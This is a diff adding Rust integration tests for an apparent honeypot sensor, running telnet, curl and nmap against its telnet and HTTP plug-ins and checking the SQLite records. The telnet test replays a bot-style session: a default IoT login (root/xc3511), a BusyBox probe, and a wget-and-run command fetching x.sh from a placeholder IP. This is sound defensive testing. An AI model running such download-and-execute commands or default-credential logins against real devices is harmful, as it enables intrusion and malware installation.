@@ -1,0 +1,337 @@
+//! The built-in plug-ins against real clients: Debian's telnet, curl and nmap, with every
+//! recorded row checked in SQLite.
+
+mod sensor_common;
+
+use std::time::Duration;
+
+use sensor_common::*;
+use testkit::sensor::{SensorProcess, plugin, ports};
+
+const TIMEOUT: Duration = Duration::from_secs(30);
+
+#[test]
+fn telnet_client_logs_in_and_every_command_is_recorded() {
+    let telnet = require("telnet", "telnet");
+    let [port] = ports();
+    let sensor = SensorProcess::start(&bin(), &plugin("telnet", "telnet", port, "telnet"));
+    // Debian's telnet reading a script from a pipe, as a person (or a bot) would type it.
+    let script = format!(
+        "(sleep 1; echo root; sleep 0.5; echo xc3511; sleep 0.5; \
+          echo 'uname -a; cat /proc/cpuinfo | head -3'; sleep 0.5; \
+          echo '/bin/busybox ECCHI'; sleep 0.5; \
+          echo 'cd /tmp && wget http://203.0.113.9/x.sh -O x.sh; sh x.sh'; sleep 0.5; \
+          echo exit; sleep 1) | {} 127.0.0.1 {port}",
+        telnet.display()
+    );
+    let output = sh(&script, TIMEOUT);
+    for expected in [
+        "login: ",
+        "Password: ",
+        "BusyBox",
+        "Linux",
+        "ECCHI: applet not found",
+    ] {
+        assert!(
+            output.contains(expected),
+            "telnet output lacks {expected:?}:\n{output}"
+        );
+    }
+    let (status, _dir) = sensor.terminate(TIMEOUT);
+    assert!(status.success(), "{status}");
+    let conn = db(&_dir.path().join("sensor.sqlite"));
+    assert_eq!(
+        rows(
+            &conn,
+            "SELECT input_type, username, password FROM telnet WHERE eventType = 'telnet.login'"
+        ),
+        [["login", "root", "xc3511"]]
+    );
+    let commands: Vec<String> = rows(
+        &conn,
+        "SELECT user_input FROM telnet WHERE eventType = 'telnet.command' ORDER BY ID",
+    )
+    .into_iter()
+    .map(|r| r[0].clone())
+    .collect();
+    assert_eq!(
+        commands,
+        [
+            "uname -a",
+            "cat /proc/cpuinfo",
+            "head -3",
+            "/bin/busybox ECCHI",
+            "cd /tmp",
+            "wget http://203.0.113.9/x.sh -O x.sh",
+            "sh x.sh",
+            "exit"
+        ]
+    );
+    assert_eq!(
+        rows(
+            &conn,
+            "SELECT closeReason, peerAddress, localAddress FROM sessions"
+        ),
+        [["logout", "127.0.0.1", "127.0.0.1"]]
+    );
+    // Every row carries the fixed columns.
+    assert_eq!(
+        count(
+            &conn,
+            "SELECT count(*) FROM telnet WHERE session IS NULL OR eventDateTime NOT LIKE '____-__-__T__:__:__.______Z' OR peerAddress != '127.0.0.1' OR localAddress != '127.0.0.1'"
+        ),
+        0
+    );
+}
+
+#[test]
+fn telnet_negotiation_bytes_never_reach_the_recorded_input() {
+    let [port] = ports();
+    let sensor = SensorProcess::start(&bin(), &plugin("t", "telnet", port, "telnet"));
+    let mut s = connect(port);
+    let greeting = read_until(&mut s, b"login: ");
+    assert_eq!(
+        greeting.first(),
+        Some(&255u8),
+        "negotiation first: {greeting:?}"
+    );
+    // A client's answers and a window size, interleaved with the username, split oddly.
+    send(&mut s, &[255, 253, 1, 255, 253, 3, b'r', b'o']); // DO ECHO, DO SGA, "ro"
+    send(
+        &mut s,
+        &[255, 251, 31, 255, 250, 31, 0, 80, 0, 24, 255, 240],
+    ); // WILL NAWS, SB NAWS 80x24 SE
+    send(&mut s, b"ot\r\n");
+    read_until(&mut s, b"Password: ");
+    send(&mut s, b"pa\xff\xffss\r\n"); // IAC IAC is a literal 0xff data byte
+    read_until(&mut s, b"# ");
+    send(&mut s, b"echo hi\r\n");
+    let out = read_until(&mut s, b"# ");
+    assert!(String::from_utf8_lossy(&out).contains("hi"));
+    drop(s);
+    let (status, dir) = sensor.terminate(TIMEOUT);
+    assert!(status.success());
+    let conn = db(&dir.path().join("sensor.sqlite"));
+    let login = rows(
+        &conn,
+        "SELECT username, hex(password) FROM telnet WHERE eventType = 'telnet.login'",
+    );
+    assert_eq!(login[0][0], "root");
+    assert_eq!(
+        login[0][1], "7061EFBFBD7373",
+        "0xff kept as one (lossy) character"
+    );
+    assert_eq!(
+        count(
+            &conn,
+            "SELECT count(*) FROM telnet WHERE user_input = 'echo hi'"
+        ),
+        1
+    );
+}
+
+#[test]
+fn curl_requests_credentials_and_cookie_sessions_are_recorded() {
+    require("curl", "curl");
+    let [web, alt] = ports();
+    let body = format!(
+        "{}{}",
+        plugin("web", "http", web, "http"),
+        plugin("alt", "http", alt, "http_alt")
+    );
+    let sensor = SensorProcess::start(&bin(), &body);
+    let jar = sensor.dir().join("cookies.txt");
+    let jar = jar.display();
+    // Two requests over one keep-alive connection, then a login over a second connection that
+    // carries the cookie from the first.
+    let head = sh(
+        &format!("curl -s -i -c {jar} http://127.0.0.1:{web}/ http://127.0.0.1:{web}/login.html"),
+        TIMEOUT,
+    );
+    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+    assert!(head.contains("Set-Cookie: SESSIONID="), "{head}");
+    assert!(head.contains("<form"), "{head}");
+    let login = sh(
+        &format!(
+            "curl -s -i -b {jar} -d 'username=admin&password=hunter2' http://127.0.0.1:{web}/login.cgi"
+        ),
+        TIMEOUT,
+    );
+    assert!(login.starts_with("HTTP/1.1 "), "{login}");
+    let other = sh(
+        &format!("curl -s -o /dev/null -w '%{{http_code}}' http://127.0.0.1:{alt}/nope"),
+        TIMEOUT,
+    );
+    assert_eq!(other, "404");
+    let (status, dir) = sensor.terminate(TIMEOUT);
+    assert!(status.success());
+    let conn = db(&dir.path().join("sensor.sqlite"));
+    let requests = rows(
+        &conn,
+        "SELECT command, path, version, status, username, password, session FROM http ORDER BY ID",
+    );
+    assert_eq!(requests.len(), 3, "{requests:?}");
+    assert_eq!(requests[0][..4], ["GET", "/", "HTTP/1.1", "200"]);
+    assert_eq!(requests[1][..4], ["GET", "/login.html", "HTTP/1.1", "200"]);
+    assert_eq!(requests[2][..2], ["POST", "/login.cgi"]);
+    assert_eq!(requests[2][4..6], ["admin", "hunter2"]);
+    assert!(
+        requests.iter().all(|r| r[6] == requests[0][6]),
+        "the cookie ties both connections into one session: {requests:?}"
+    );
+    let headers = rows(&conn, "SELECT headers FROM http WHERE command = 'POST'");
+    assert!(headers[0][0].contains("User-Agent: curl/"), "{headers:?}");
+    let sessions = rows(
+        &conn,
+        "SELECT session, linkedSession FROM sessions WHERE plugin = 'web' ORDER BY startTime",
+    );
+    assert_eq!(sessions.len(), 2);
+    assert_eq!(
+        sessions[1][1], sessions[0][0],
+        "second connection linked to the first"
+    );
+    assert_eq!(
+        rows(&conn, "SELECT command, path, status FROM http_alt"),
+        [["GET", "/nope", "404"]]
+    );
+}
+
+#[test]
+fn malformed_requests_tls_hellos_and_junk_are_answered_and_recorded_raw() {
+    let [port] = ports();
+    let sensor = SensorProcess::start(&bin(), &plugin("web", "http", port, "http"));
+    // A request line httparse cannot take.
+    let mut s = connect(port);
+    send(
+        &mut s,
+        b"GET / HTTP/1.1\r\nHost: x\r\nBad Header Line\r\n\r\n",
+    );
+    let (reply, closed) = read_to_close(&mut s);
+    assert!(
+        reply.starts_with(b"HTTP/1.1 400"),
+        "{}",
+        String::from_utf8_lossy(&reply)
+    );
+    assert!(closed);
+    // A TLS ClientHello on the HTTP port.
+    let mut s = connect(port);
+    send(
+        &mut s,
+        &[
+            0x16, 0x03, 0x01, 0x00, 0x2f, 0x01, 0x00, 0x00, 0x2b, 0x03, 0x03, 0xff, 0x00,
+        ],
+    );
+    let (_, closed) = read_to_close(&mut s);
+    assert!(closed);
+    // Binary junk.
+    let mut s = connect(port);
+    send(&mut s, &[0u8, 1, 2, 0xfe, 0xff, b'\n']);
+    let (_, closed) = read_to_close(&mut s);
+    assert!(closed);
+    // A body over the request limit is refused without being read to the end.
+    let mut s = connect(port);
+    send(
+        &mut s,
+        b"POST /login.cgi HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999\r\n\r\n",
+    );
+    let (reply, _) = read_to_close(&mut s);
+    assert!(
+        reply.starts_with(b"HTTP/1.1 413"),
+        "{}",
+        String::from_utf8_lossy(&reply)
+    );
+    let (status, dir) = sensor.terminate(TIMEOUT);
+    assert!(status.success());
+    let conn = db(&dir.path().join("sensor.sqlite"));
+    let raw = rows(
+        &conn,
+        "SELECT reason, length, bytes FROM rawInput ORDER BY ID",
+    );
+    assert_eq!(raw.len(), 4, "{raw:?}");
+    assert_eq!(raw[1][0], "not HTTP");
+    assert_eq!(
+        raw[1][2],
+        "\\x16\\x03\\x01\\x00/\\x01\\x00\\x00+\\x03\\x03\\xff\\x00"
+    );
+    assert_eq!(raw[2][2], "\\x00\\x01\\x02\\xfe\\xff\\n");
+    assert_eq!(
+        count(&conn, "SELECT count(*) FROM http WHERE status = 400"),
+        1
+    );
+    assert_eq!(
+        count(&conn, "SELECT count(*) FROM http WHERE status = 413"),
+        1
+    );
+    assert_eq!(
+        count(&conn, "SELECT count(*) FROM sessions WHERE endTime IS NULL"),
+        0
+    );
+}
+
+#[test]
+fn nmap_connect_scan_and_service_detection() {
+    let nmap = require("nmap", "nmap");
+    let [t, h] = ports();
+    let body = format!(
+        "{}{}",
+        plugin("telnet", "telnet", t, "telnet"),
+        plugin("web", "http", h, "http")
+    );
+    let sensor = SensorProcess::start(&bin(), &body);
+    let scan = sh(
+        &format!("{} -sT -Pn -n -p {t},{h} 127.0.0.1", nmap.display()),
+        Duration::from_secs(60),
+    );
+    assert!(
+        scan.contains(&format!("{t}/tcp open")) && scan.contains(&format!("{h}/tcp open")),
+        "{scan}"
+    );
+    let version = sh(
+        &format!("{} -sV -Pn -n -p {t},{h} 127.0.0.1", nmap.display()),
+        Duration::from_secs(240),
+    );
+    eprintln!("nmap -sV said:\n{version}");
+    let line = |port: u16| {
+        version
+            .lines()
+            .find(|l| l.starts_with(&format!("{port}/tcp")))
+            .unwrap_or_default()
+            .to_string()
+    };
+    let (tl, hl) = (line(t), line(h));
+    assert!(
+        tl.contains(" open ") && tl.contains("telnet"),
+        "telnet port: {tl:?}\n{version}"
+    );
+    assert!(
+        hl.contains(" open ") && hl.contains("http"),
+        "http port: {hl:?}\n{version}"
+    );
+    assert!(
+        !version.contains("SF-Port"),
+        "nmap printed an unrecognised-service fingerprint:\n{version}"
+    );
+    let (status, dir) = sensor.terminate(TIMEOUT);
+    assert!(status.success());
+    let conn = db(&dir.path().join("sensor.sqlite"));
+    // The connect scan: sessions with zero bytes and a close reason.
+    assert!(
+        count(
+            &conn,
+            "SELECT count(*) FROM sessions WHERE bytesIn = 0 AND closeReason IS NOT NULL"
+        ) >= 2,
+        "{:?}",
+        rows(&conn, "SELECT plugin, bytesIn, closeReason FROM sessions")
+    );
+    assert_eq!(
+        count(
+            &conn,
+            "SELECT count(*) FROM sessions WHERE endTime IS NULL OR closeReason IS NULL"
+        ),
+        0
+    );
+    assert!(
+        count(&conn, "SELECT count(*) FROM http") >= 1,
+        "nmap's HTTP probes are recorded"
+    );
+}
